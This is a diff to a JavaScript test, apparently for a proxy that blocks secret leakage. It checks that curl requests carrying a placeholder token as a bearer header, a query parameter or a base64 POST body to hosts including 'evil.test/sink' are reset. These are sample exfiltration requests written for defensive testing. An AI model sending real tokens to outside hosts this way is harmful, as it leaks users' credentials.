@@ -140,8 +140,8 @@ describe.each(["--http1.1", "--http2"])("with curl %s", (http) => {
     for (const to of [NONE, ALL, "evil.test"]) {
       expect(await curl(http, ...bearer(ph), `https://${to}/`)).toMatch(RESET);
       expect(await curl(http, `https://${to}/?k=${ph.toUpperCase()}`)).toMatch(RESET);
-      // A server may answer before there is a body.
-      await curl(http, "-d", `a=${btoa(ph)}`, `https://${to}/`);
+      // Where the body is read before there is an answer: none comes too early to see it.
+      await curl(http, "-d", `a=${btoa(ph)}`, `https://${to}/sink`);
     }
     const arrived = await world.internet.report();
     expect(
